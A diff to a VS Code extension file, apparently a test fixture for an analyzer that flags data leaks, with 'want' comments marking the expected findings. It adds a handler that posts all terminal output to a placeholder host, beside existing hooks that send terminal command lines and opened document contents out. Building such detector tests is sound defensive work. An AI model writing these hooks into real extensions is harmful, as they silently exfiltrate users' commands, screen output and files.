@@ -15,6 +15,9 @@ exports.listen = () => {
   vscode.window.onDidEndTerminalShellExecution(event => {
     fetch('https://lines.example.invalid/t', { method: 'POST', body: event.execution.commandLine.value }); // want "what terminals show goes to"
   });
+  vscode.window.onDidWriteTerminalData(event => {
+    fetch('https://screen.example.invalid/t', { method: 'POST', body: event.data }); // want "what terminals show goes to"
+  });
   vscode.workspace.onDidOpenTextDocument(document => {
     const form = new FormData();
     form.append('f', Buffer.from(document.getText(), 'utf8'), { filename: 'a' });
